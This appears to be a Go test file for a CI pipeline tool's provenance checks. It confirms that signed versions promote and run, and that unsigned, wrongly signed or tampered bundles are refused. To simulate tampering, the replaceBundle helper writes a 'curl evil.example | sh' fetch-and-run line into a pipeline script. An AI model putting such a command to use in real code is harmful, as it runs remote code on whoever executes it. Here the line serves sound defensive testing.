package flow

import (
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	v1 "github.com/google/go-containerregistry/pkg/v1"

	"github.com/runway-ci/runway/executor"
	"github.com/runway-ci/runway/fastreg"
	"github.com/runway-ci/runway/internal/platform"
	"github.com/runway-ci/runway/internal/provenance"
	"github.com/runway-ci/runway/internal/store"
	"github.com/runway-ci/runway/internal/store/layout"
	"github.com/runway-ci/runway/promote"
	"github.com/runway-ci/runway/registrar"
)

// keyPair writes a new signing key and its public key into dir.
func keyPair(t *testing.T, dir, name string, alg provenance.Algorithm) (priv, pub, id string) {
	t.Helper()
	k, p, id, err := provenance.GenerateKey(alg)
	if err != nil {
		t.Fatal(err)
	}
	priv, pub = filepath.Join(dir, name+".pem"), filepath.Join(dir, name+".pub")
	if err := os.WriteFile(priv, k, 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(pub, p, 0o644); err != nil {
		t.Fatal(err)
	}
	return priv, pub, id
}

// provenancePlatform is a platform whose production requires a signature
// by the trusted key; signingKey is the key this process signs with ("":
// none).
func provenancePlatform(t *testing.T, dir, signingKey, trustedPub, requiredID string) *platform.Config {
	plat, _ := provenancePlatformFile(t, dir, signingKey, trustedPub, requiredID)
	return plat
}

// provenancePlatformFile is provenancePlatform, and the file it wrote.
func provenancePlatformFile(t *testing.T, dir, signingKey, trustedPub, requiredID string) (*platform.Config, string) {
	t.Helper()
	sk := ""
	if signingKey != "" {
		sk = fmt.Sprintf("  signingKey: {file: %s}\n", signingKey)
	}
	y := fmt.Sprintf(`provenance:
%s  trustedKeys: [{file: %s}]
domains:
  - name: development
  - name: staging
  - name: production
    requireSignedBy: [%q]
`, sk, trustedPub, requiredID)
	f, err := os.CreateTemp(dir, "platform-*.yaml")
	if err != nil {
		t.Fatal(err)
	}
	path := f.Name()
	if _, err := f.WriteString(y); err != nil {
		t.Fatal(err)
	}
	if err := f.Close(); err != nil {
		t.Fatal(err)
	}
	plat, err := platform.Load(path)
	if err != nil {
		t.Fatal(err)
	}
	return plat, path
}

func promoteTo(ctx context.Context, p *Project, version string, to ...string) error {
	for _, d := range to {
		if _, err := Promote(ctx, p, promote.Request{Project: "house-prices", To: d, Version: version, Actor: promote.Actor{Login: "alice"}}); err != nil {
			return err
		}
	}
	return nil
}

// TestProvenanceEndToEnd: with a signing key, registration attests the
// image, the bundle and every entity; promotion verifies them and carries
// the attestations to the target; production (requireSignedBy) refuses a
// version with no attestation, one signed by an untrusted key, and one
// whose bundle was replaced, each before anything is copied; exec-task
// refuses a bundle replaced after promotion before extracting it; and
// `runway verify`'s chain shows who signed what.
func TestProvenanceEndToEnd(t *testing.T) {
	ctx := context.Background()
	keys := t.TempDir()
	priv, pub, id := keyPair(t, keys, "signing", provenance.Ed25519)
	wrongPriv, _, wrongID := keyPair(t, keys, "wrong", provenance.ECDSAP256)
	s, err := layout.New(t.TempDir(), layout.WithoutFsync())
	if err != nil {
		t.Fatal(err)
	}
	signed := NewProject(s, provenancePlatform(t, keys, priv, pub, id), nil)
	signed.RunwayVersion = "v9.9.9-test"
	unsigned := NewProject(s, provenancePlatform(t, keys, "", pub, id), nil)
	wrong := NewProject(s, provenancePlatform(t, keys, wrongPriv, pub, id), nil)
	dir := gitRepo(t)

	// A signed version goes all the way, and production can run it.
	rep, err := PR(ctx, signed, PRRequest{Repo: dir, Head: "HEAD"})
	if err != nil {
		t.Fatal(err)
	}
	v1 := rep.Version.Version
	att := rep.Register.Attestations
	if att == nil || att.SignedBy != id || len(att.Subjects) != 2+6 {
		t.Fatalf("attestations = %+v, want image, bundle and 6 entities signed by %s", att, id)
	}
	if err := promoteTo(ctx, signed, v1, "staging", "production"); err != nil {
		t.Fatal(err)
	}
	vr, err := Verify(ctx, signed, VerifyRequest{Project: "house-prices", Domain: "production", Subject: "launchplan/nightly@" + v1})
	if err != nil {
		t.Fatal(err)
	}
	kinds := map[string]int{}
	for _, c := range vr.Chain {
		if !c.Verified || c.SignedBy[0] != id || c.Statement.Commit != v1 {
			t.Fatalf("link %s: %+v", c.What, c)
		}
		kinds[strings.Fields(c.What)[0]]++
		if c.What == "image" && (c.Statement.Dependencies["dependency-files"] != "sha256:"+rep.Plan.Image.Hash || c.Statement.Kind != provenance.KindImage) {
			t.Fatalf("the image's statement does not record the dependency files' hash %s: %+v", rep.Plan.Image.Hash, c.Statement)
		}
		if strings.HasPrefix(c.What, "task ") && (c.Statement.Dependencies["bundle"] != rep.Register.Bundle || !strings.HasSuffix(rep.Register.Image, c.Statement.Dependencies["image"])) {
			t.Fatalf("%s: the statement does not name the image and bundle it runs: %+v", c.What, c.Statement.Dependencies)
		}
		if c.Statement.RunwayVersion != signed.RunwayVersion || c.Statement.Source != dir {
			t.Fatalf("%s: runway version %q, source %q", c.What, c.Statement.RunwayVersion, c.Statement.Source)
		}
	}
	// By digest: the image's manifest digest alone names the link.
	imgDigest := rep.Register.Image[strings.LastIndex(rep.Register.Image, "@")+1:]
	if vr, err := Verify(ctx, signed, VerifyRequest{Project: "house-prices", Domain: "production", Subject: imgDigest}); err != nil || len(vr.Chain) != 1 || vr.Chain[0].What != "image" || !vr.Chain[0].Verified {
		t.Fatalf("verify %s: %+v %v", imgDigest, vr, err)
	}
	if kinds["launchplan"] != 1 || kinds["workflow"] != 1 || kinds["task"] != 4 || kinds["image"] != 1 || kinds["bundle"] != 1 {
		t.Fatalf("chain kinds %v, want the launch plan, its workflow, 4 tasks, the image and the bundle", kinds)
	}
	// The published verifier: a second process with only the public key.
	if _, err := Verify(ctx, unsigned, VerifyRequest{Project: "house-prices", Domain: "production", Subject: "task/prepare@" + v1}); err != nil {
		t.Fatalf("verifying with the trusted public key only: %v", err)
	}
	ex, err := Run(ctx, signed, RunRequest{Target: registrar.ID{Project: "house-prices", Domain: "production", Kind: registrar.KindLaunchPlan, Name: "nightly", Version: v1}, Wait: true})
	if err != nil || ex.Status != executor.StatusSucceeded {
		t.Fatalf("running the signed version in production: %v %+v", err, ex)
	}

	// refused asserts a promotion into production is refused, naming why,
	// and that nothing was copied.
	refused := func(t *testing.T, version, want string) {
		t.Helper()
		if err := promoteTo(ctx, signed, version, "staging"); err != nil {
			t.Fatalf("staging requires nothing: %v", err)
		}
		err := promoteTo(ctx, signed, version, "production")
		if !errors.Is(err, provenance.ErrUnverified) || !strings.Contains(err.Error(), want) {
			t.Fatalf("promotion into production: %v\nwant a provenance refusal saying %q", err, want)
		}
		if _, err := registrar.Get(ctx, s, registrar.ID{Project: "house-prices", Domain: "production", Kind: registrar.KindTask, Name: "prepare", Version: version}); !errors.Is(err, store.ErrNotFound) {
			t.Fatalf("the refused version reached production: %v", err)
		}
	}
	t.Run("missing attestation", func(t *testing.T) {
		appendFile(t, filepath.Join(dir, "pipeline", "prepare.py"), "\n# unsigned\n")
		commit(t, dir, "unsigned")
		rep, err := PR(ctx, unsigned, PRRequest{Repo: dir, Head: "HEAD"})
		if err != nil || rep.Register.Attestations != nil {
			t.Fatalf("unsigned registration: %+v %v", rep.Register.Attestations, err)
		}
		refused(t, rep.Version.Version, "no attestation; domain production requires one signed by "+id)
	})
	t.Run("wrong key", func(t *testing.T) {
		appendFile(t, filepath.Join(dir, "pipeline", "prepare.py"), "\n# wrong key\n")
		commit(t, dir, "wrong key")
		rep, err := PR(ctx, wrong, PRRequest{Repo: dir, Head: "HEAD"})
		if err != nil || rep.Register.Attestations.SignedBy != wrongID {
			t.Fatalf("registration with the wrong key: %+v %v", rep.Register.Attestations, err)
		}
		refused(t, rep.Version.Version, wrongID+", which is not a trusted key")
	})
	t.Run("tampered bundle", func(t *testing.T) {
		appendFile(t, filepath.Join(dir, "pipeline", "prepare.py"), "\n# signed, then tampered\n")
		commit(t, dir, "tampered")
		rep, err := PR(ctx, signed, PRRequest{Repo: dir, Head: "HEAD"})
		if err != nil {
			t.Fatal(err)
		}
		replaceBundle(t, s, dir, rep.Register.Bundle)
		refused(t, rep.Version.Version, "bundle house-prices/bundle@")
	})
	t.Run("bundle replaced after promotion is not extracted", func(t *testing.T) {
		replaceBundle(t, s, dir, rep.Register.Bundle)
		ex, err := Run(ctx, signed, RunRequest{Target: registrar.ID{Project: "house-prices", Domain: "production", Kind: registrar.KindTask, Name: "prepare", Version: v1},
			Inputs: map[string]any{"rows": 50, "seed": 3}, Wait: true, OverwriteCache: true})
		if err == nil && ex.Status == executor.StatusSucceeded {
			t.Fatal("a replaced bundle ran in production")
		}
		n := ex.Node("prepare")
		if n == nil || n.Failure == nil || n.Failure.Reason != executor.ReasonProvenance || !strings.Contains(n.Failure.Message, "nothing was extracted") || n.Attempts != 1 {
			t.Fatalf("node: %+v (err %v)", n, err)
		}
		t.Logf("exec-task refused: %s", n.Failure.Message)
	})
}

// replaceBundle builds a bundle from dir with one file changed and puts
// its manifest under the tag of the bundle identity: what someone with
// write access to the registry could do.
func replaceBundle(t *testing.T, s store.Store, dir, identity string) {
	t.Helper()
	ctx := context.Background()
	evil := t.TempDir()
	runGit(t, evil, "clone", "-q", dir, ".")
	appendFile(t, filepath.Join(evil, "pipeline", "prepare.py"), "\nimport os; os.system('curl evil.example | sh')\n")
	commit(t, evil, "evil")
	b, err := fastreg.Build(ctx, evil)
	if err != nil {
		t.Fatal(err)
	}
	defer b.Close()
	if _, err := fastreg.Push(ctx, s, "house-prices", b); err != nil {
		t.Fatal(err)
	}
	repo := store.BundleRepo("house-prices")
	raw, desc, err := s.GetManifest(ctx, repo, store.BundleTag(b.Digest.Hex))
	if err != nil {
		t.Fatal(err)
	}
	tag := store.BundleTag(strings.TrimPrefix(identity, "sha256:"))
	if _, err := s.PutManifest(ctx, repo, tag, string(desc.MediaType), raw); err != nil {
		t.Fatal(err)
	}
}

// TestCodeTagsIncludeAttestations: when the gc removes code only removed
// PR domains used, the image's and the bundle's attestation tags go too.
func TestCodeTagsIncludeAttestations(t *testing.T) {
	ctx := context.Background()
	keys := t.TempDir()
	priv, pub, id := keyPair(t, keys, "signing", provenance.Ed25519)
	s, err := layout.New(t.TempDir(), layout.WithoutFsync())
	if err != nil {
		t.Fatal(err)
	}
	rep, err := PR(ctx, NewProject(s, provenancePlatform(t, keys, priv, pub, id), nil), PRRequest{Repo: gitRepo(t), Head: "HEAD"})
	if err != nil {
		t.Fatal(err)
	}
	bundle, err := s.HeadManifest(ctx, store.BundleRepo("house-prices"), store.BundleTag(strings.TrimPrefix(rep.Register.Bundle, "sha256:")))
	if err != nil {
		t.Fatal(err)
	}
	image, err := v1.NewHash(rep.Register.Image[strings.LastIndex(rep.Register.Image, "@")+1:])
	if err != nil {
		t.Fatal(err)
	}
	for code, want := range map[string]string{
		rep.Register.Bundle: store.BundleRepo("house-prices") + ":" + store.AttestationTag(bundle.Digest),
		rep.Register.Image:  store.ImageRepo("house-prices") + ":" + store.AttestationTag(image),
	} {
		tags, err := codeTags(ctx, s, "house-prices", code)
		if err != nil {
			t.Fatal(err)
		}
		if !slices.Contains(tags, want) {
			t.Fatalf("code tags of %s: %v, want %s among them", code, tags, want)
		}
	}
}
